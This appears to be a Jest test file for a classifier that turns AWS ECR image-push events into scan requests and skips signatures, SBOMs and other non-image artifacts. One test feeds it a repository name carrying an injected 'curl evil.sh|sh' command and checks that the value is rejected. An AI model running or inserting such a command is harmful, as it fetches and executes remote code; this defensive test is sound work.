import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { classifyGateEvent } from '../../../functions/core/events';
import {
  COSIGN_TAG_WILDCARDS,
  IMAGE_CONFIG_MEDIA_TYPES,
  IMAGE_INDEX_MEDIA_TYPES,
  IMAGE_MANIFEST_MEDIA_TYPES,
  nonImageArtifact,
  readImagePush,
} from '../../../functions/core/events/ecr-image-action';
import { conformanceFiles, describeWithConformance } from '../../support/conformance';

/** The project's own event fixtures (test/fixtures/events), for shapes the conformance set has no sample of. */
const fixture = (name: string): unknown => JSON.parse(readFileSync(join(__dirname, '../../fixtures/events', name), 'utf8'));
const options = { scanProjectName: 'fargate-gate-scan' };

describe('ECR Image Action', () => {
  it('reads an ECR push into a digest-pinned reference', () => {
    expect(classifyGateEvent(fixture('ecr-image-action-push.json'), options)).toEqual({
      kind: 'imagePushed',
      meta: expect.objectContaining({ id: 'f1e2d3c4-b5a6-4978-8695-a4b3c2d1e0f9' }),
      digest: 'sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0',
      imageReference: '123456789012.dkr.ecr.eu-west-1.amazonaws.com/shop/web@sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0',
      repositoryName: 'shop/web',
      tag: '2026.01.05',
    });
  });

  it('uses the .amazonaws.com.cn registry domain in China regions', () => {
    const raw = fixture('ecr-image-action-push.json') as Record<string, unknown>;
    raw.region = 'cn-north-1';
    expect(classifyGateEvent(raw, options)).toMatchObject({ imageReference: expect.stringMatching(/^123456789012\.dkr\.ecr\.cn-north-1\.amazonaws\.com\.cn\/shop\/web@/) });
  });

  it('rejects a pushed repository name that is not a repository name', () => {
    const raw = fixture('ecr-image-action-push.json') as { detail: Record<string, unknown> };
    raw.detail['repository-name'] = 'shop/web;curl evil.sh|sh';
    expect(classifyGateEvent(raw, options)).toMatchObject({ kind: 'ignored', malformed: true, reason: expect.stringContaining('repository-name') });
  });
});

describe('ECR Image Action: only container images are scanned', () => {
  const OCI_MANIFEST = 'application/vnd.oci.image.manifest.v1+json';
  const OCI_CONFIG = 'application/vnd.oci.image.config.v1+json';
  const pushOf = (detail: Record<string, unknown>) => {
    const raw = fixture('ecr-image-action-push.json') as { detail: Record<string, unknown> };
    for (const [key, value] of Object.entries(detail)) {
      if (value === undefined) delete raw.detail[key];
      else raw.detail[key] = value;
    }
    return classifyGateEvent(raw, options);
  };

  it.each<[string, Record<string, unknown>]>([
    ['an OCI image', { 'manifest-media-type': OCI_MANIFEST, 'artifact-media-type': OCI_CONFIG }],
    ['a Docker image', { 'manifest-media-type': 'application/vnd.docker.distribution.manifest.v2+json', 'artifact-media-type': 'application/vnd.docker.container.image.v1+json' }],
    ['an OCI image index', { 'manifest-media-type': 'application/vnd.oci.image.index.v1+json', 'artifact-media-type': undefined }],
    ['a Docker manifest list', { 'manifest-media-type': 'application/vnd.docker.distribution.manifest.list.v2+json', 'artifact-media-type': undefined }],
    ['an event without media types', { 'manifest-media-type': undefined, 'artifact-media-type': undefined }],
    ['media types given as null', { 'manifest-media-type': null, 'artifact-media-type': null }],
    ['a tag that merely ends in .sig', { 'image-tag': 'release.sig' }],
  ])('scans %s', (_name, detail) => {
    expect(pushOf(detail)).toMatchObject({ kind: 'imagePushed' });
  });

  it.each<[string, Record<string, unknown>, RegExp]>([
    ['a cosign signature', { 'artifact-media-type': OCI_CONFIG, 'image-tag': `sha256-${'a'.repeat(64)}.sig` }, /cosign signature, attestation or SBOM tagged "sha256-a+\.sig"/],
    ['a cosign attestation', { 'artifact-media-type': OCI_CONFIG, 'image-tag': `sha256-${'a'.repeat(64)}.att` }, /cosign/],
    ['a cosign SBOM', { 'artifact-media-type': OCI_CONFIG, 'image-tag': `sha256-${'a'.repeat(64)}.sbom` }, /cosign/],
    ['an SBOM referrer', { 'manifest-media-type': 'application/vnd.cncf.oras.artifact.manifest.v1+json', 'artifact-media-type': 'text/sbom+json' }, /"application\/vnd\.cncf\.oras\.artifact\.manifest\.v1\+json" manifest/],
    ['a BuildKit cache', { 'artifact-media-type': 'application/vnd.buildkit.cacheconfig.v0' }, /"application\/vnd\.buildkit\.cacheconfig\.v0" artifact/],
    ['a Helm chart', { 'artifact-media-type': 'application/vnd.cncf.helm.config.v1+json' }, /helm/],
    ['a Sigstore bundle', { 'artifact-media-type': 'application/vnd.dev.sigstore.bundle.v0.3+json', 'image-tag': undefined }, /sigstore/],
  ])('ignores %s without calling it malformed', (_name, detail, reason) => {
    expect(pushOf(detail)).toMatchObject({ kind: 'ignored', malformed: false, reason: expect.stringMatching(reason) });
  });

  it('rejects a media type that is not a string as malformed', () => {
    expect(pushOf({ 'manifest-media-type': 42 })).toMatchObject({ kind: 'ignored', malformed: true, reason: expect.stringContaining('manifest-media-type') });
  });

  it('exposes the lists the push rule filters on', () => {
    expect(nonImageArtifact({ 'manifest-media-type': IMAGE_INDEX_MEDIA_TYPES[0] })).toBeUndefined();
    for (const type of IMAGE_MANIFEST_MEDIA_TYPES) expect(nonImageArtifact({ 'manifest-media-type': type, 'artifact-media-type': IMAGE_CONFIG_MEDIA_TYPES[0] })).toBeUndefined();
    for (const wildcard of COSIGN_TAG_WILDCARDS) expect(nonImageArtifact({ 'image-tag': wildcard.replace('*', 'c'.repeat(64)) })).toMatch(/cosign/);
  });

  describeWithConformance('the real ECR samples', () => {
    const sample = (name: string) => JSON.parse(readFileSync(conformanceFiles('events').find((file) => file.endsWith(name))!, 'utf8').replace(/^\uFEFF/, ''));

    it('reads the push sample, which has no media types, as a push of an image', () => {
      const detail = { ...sample('ecr-image-action-push-awsdocs.json').detail, 'image-digest': `sha256:${'d'.repeat(64)}` };
      expect(readImagePush(detail, { account: '123456789012', region: 'us-west-2' })).toMatchObject({ ok: true, repositoryName: 'my-repository-name', tag: 'latest' });
    });
  });
});
